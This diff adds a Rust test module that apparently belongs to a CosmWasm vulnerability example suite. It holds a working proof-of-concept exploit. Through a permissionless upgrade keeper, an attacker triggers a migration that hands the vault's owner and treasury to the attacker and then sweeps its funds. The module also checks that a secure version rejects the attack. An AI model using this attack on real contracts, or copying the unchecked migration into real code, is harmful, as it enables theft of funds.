@@ -0,0 +1,163 @@
+//! Taking over config through a permissionless migration relay
+
+use anyhow::{ensure, Result as AnyResult};
+use cosmwasm_schema::cw_serde;
+use cosmwasm_std::{
+    coins, to_json_binary, Addr, Binary, Deps, DepsMut, Empty, Env, MessageInfo, MigrateInfo,
+    Response, StdResult, WasmMsg,
+};
+use cw_multi_test::{Contract, ContractWrapper, Executor};
+
+use crate::contracts::unprotected_migrate::{
+    execute, instantiate, migrate, query, secure, ExecuteMsg, InstantiateMsg, MigrateMsg,
+};
+use crate::{ExploitSpec, Harness, USD};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "unprotected_migrate",
+    description: "Anyone-can-trigger migration hands owner and treasury to the attacker",
+    must_succeed: || attack(vulnerable, takeover),
+    must_fail: || attack(secure, secure_takeover),
+    rejection: "Unauthorized",
+};
+
+fn vulnerable() -> Box<dyn Contract<Empty>> {
+    Box::new(ContractWrapper::new(execute, instantiate, query).with_migrate(unchecked_migrate))
+}
+
+/// The example predates `MigrateInfo`; it ignores the migration sender anyway
+fn unchecked_migrate(
+    deps: DepsMut,
+    env: Env,
+    msg: MigrateMsg,
+    _info: MigrateInfo,
+) -> StdResult<Response> {
+    migrate(deps, env, msg)
+}
+
+fn secure() -> Box<dyn Contract<Empty>> {
+    Box::new(
+        ContractWrapper::new(secure::execute, secure::instantiate, secure::query)
+            .with_migrate(secure::migrate),
+    )
+}
+
+/// Upgrade keeper holding the admin role; relays any migration request
+mod keeper {
+    use super::*;
+
+    #[cw_serde]
+    pub enum ExecuteMsg {
+        Upgrade {
+            contract: String,
+            new_code_id: u64,
+            msg: Binary,
+        },
+    }
+
+    pub fn instantiate(
+        _deps: DepsMut,
+        _env: Env,
+        _info: MessageInfo,
+        _msg: Empty,
+    ) -> StdResult<Response> {
+        Ok(Response::new())
+    }
+
+    pub fn execute(
+        _deps: DepsMut,
+        _env: Env,
+        _info: MessageInfo,
+        msg: ExecuteMsg,
+    ) -> StdResult<Response> {
+        let ExecuteMsg::Upgrade {
+            contract,
+            new_code_id,
+            msg,
+        } = msg;
+        Ok(Response::new().add_message(WasmMsg::Migrate {
+            contract_addr: contract,
+            new_code_id,
+            msg,
+        }))
+    }
+
+    pub fn query(_deps: Deps, _env: Env, _msg: Empty) -> StdResult<Binary> {
+        to_json_binary(&Empty {})
+    }
+}
+
+/// Migration payload handing the vault to `attacker`
+fn takeover(attacker: &Addr) -> StdResult<Binary> {
+    to_json_binary(&MigrateMsg {
+        new_owner: attacker.to_string(),
+        treasury: attacker.to_string(),
+        fee_bps: 10_000,
+    })
+}
+
+/// The secure MigrateMsg cannot touch ownership; the attacker still tries
+/// to make the vault route every fee away
+fn secure_takeover(_attacker: &Addr) -> StdResult<Binary> {
+    to_json_binary(&secure::MigrateMsg {
+        fee_bps: Some(10_000),
+    })
+}
+
+fn attack(
+    code: fn() -> Box<dyn Contract<Empty>>,
+    payload: fn(&Addr) -> StdResult<Binary>,
+) -> AnyResult<()> {
+    let mut h = Harness::new();
+    let (owner, attacker) = (h.owner.clone(), h.attacker.clone());
+    let treasury = h.account("treasury");
+
+    let keeper_code = h.app.store_code(Box::new(ContractWrapper::new(
+        keeper::execute,
+        keeper::instantiate,
+        keeper::query,
+    )));
+    let keeper =
+        h.app
+            .instantiate_contract(keeper_code, owner.clone(), &Empty {}, &[], "keeper", None)?;
+
+    let vault_code = h.app.store_code(code());
+    let vault = h.app.instantiate_contract(
+        vault_code,
+        owner.clone(),
+        &InstantiateMsg {
+            treasury: treasury.to_string(),
+            fee_bps: 30,
+        },
+        &coins(100_000, USD),
+        "vault",
+        Some(keeper.to_string()),
+    )?;
+
+    h.execute(
+        &attacker,
+        &keeper,
+        &keeper::ExecuteMsg::Upgrade {
+            contract: vault.to_string(),
+            new_code_id: vault_code,
+            msg: payload(&attacker)?,
+        },
+        &[],
+    )?;
+
+    let before = h.balance(&attacker, USD);
+    h.execute(
+        &attacker,
+        &vault,
+        &ExecuteMsg::SweepFees {
+            denom: USD.to_string(),
+        },
+        &[],
+    )?;
+
+    ensure!(
+        h.balance(&attacker, USD) == before + 100_000,
+        "attacker could not sweep the fees"
+    );
+    Ok(())
+}